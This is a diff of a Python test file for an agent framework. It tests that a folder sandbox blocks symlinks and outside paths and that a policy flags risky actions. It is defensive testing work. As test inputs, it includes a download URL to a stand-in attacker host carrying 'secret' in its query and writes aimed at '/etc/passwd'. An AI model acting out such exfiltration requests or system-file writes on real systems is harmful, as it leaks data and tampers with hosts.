@@ -15,13 +15,18 @@ from typing import Any
 import pytest
 from aiohttp import web
 
-from agentorchestra.core.effects import ArtifactRef, Outcome
+from agentorchestra.core.content import Trust
+from agentorchestra.core.effects import ArtifactRef, Outcome, Provenance
 from agentorchestra.core.errors import ToolError
+from agentorchestra.core.policy import PolicyView
 from agentorchestra.core.settings import Settings, WebSettings
-from agentorchestra.environments.folder import FolderGround
+from agentorchestra.environments.files import FilesEnvironment
+from agentorchestra.environments.folder import FolderEnvironment, FolderGround
 from agentorchestra.environments.manifest import FolderLimits
-from agentorchestra.runtime.policy import AllowAll
+from agentorchestra.runtime.policy import AllowAll, DefaultPolicy
 from agentorchestra.runtime.store import MemoryStore
+from agentorchestra.tea.actions import action_effect
+from agentorchestra.tea.environment import action
 from agentorchestra.workspace import Workspace
 
 
@@ -234,7 +239,7 @@ async def test_nothing_leads_out_of_the_folder(files: Used, tmp_path: Path) -> N
     (folder / "alias.txt").symlink_to(outside / "secret.txt")
     os.mkfifo(folder / "pipe")
     for path in OUTSIDE:
-        for action, arguments in (
+        for name, arguments in (
             ("read", {"path": path}),
             ("write", {"path": path, "content": "x", "overwrite": True}),
             ("edit", {"path": path, "old": "SECRET", "new": "x"}),
@@ -242,8 +247,8 @@ async def test_nothing_leads_out_of_the_folder(files: Used, tmp_path: Path) -> N
             ("copy", {"path": "a/in.txt", "to": path}),
             ("move", {"path": "a/in.txt", "to": path}),
         ):
-            said = await files.refused(action, **arguments)
-            assert "SECRET" not in said, (action, path)
+            said = await files.refused(name, **arguments)
+            assert "SECRET" not in said, (name, path)
     assert "is a link, and links are not followed" in await files.refused("read", path="out/secret.txt")
     assert "links are not followed" in await files.refused("make_folder", path="out/new")
     assert "links are not followed" in await files.refused("delete", path="out/secret.txt")
@@ -296,3 +301,34 @@ async def test_more_than_can_be_kept_is_said(tmp_path: Path) -> None:
         (ground.folder / name).mkdir()
     with pytest.raises(ToolError, match="more than 3 files and folders"):
         await ground.snapshot()
+
+
+# -- policy ------------------------------------------------------------------------------------------------------------
+
+
+def test_paths_are_not_asked_about_and_a_download_is_a_network_read(tmp_path: Path) -> None:
+    page = (Provenance(kind="page", ref="http://b.example", trust=Trust.UNTRUSTED),)
+    view = PolicyView(user_content=("Fetch http://a.example/data/x.pdf please.",))
+    policy = DefaultPolicy(folder=tmp_path)
+
+    def judged(environment: FolderEnvironment, name: str, **arguments: Any) -> str:
+        declared = next((one for one in environment.actions() if one.name == name), None)
+        effect = action_effect(environment, name, arguments, provenance=page, declared=declared)
+        return policy.decide(effect, view).action
+
+    files = FilesEnvironment()
+    assert judged(files, "download", url="http://a.example/data/x.pdf", path="docs/x.pdf") == "allow"
+    assert judged(files, "download", url="http://evil.example/?q=secret") == "ask"
+    assert judged(files, "write", path="a.sh", content="/bin/sh ../x") == "allow"
+    assert judged(files, "write", path="/etc/passwd", content="x") == "allow"  # and the environment refuses it
+
+    class Loose(FolderEnvironment):
+        """Follows paths by itself."""
+
+        name = "loose"
+
+        @action
+        def put(self, path: str) -> None:
+            """Put."""
+
+    assert judged(Loose(), "put", path="/etc/passwd") == "ask" and judged(Loose(), "put", path="in/a") == "allow"
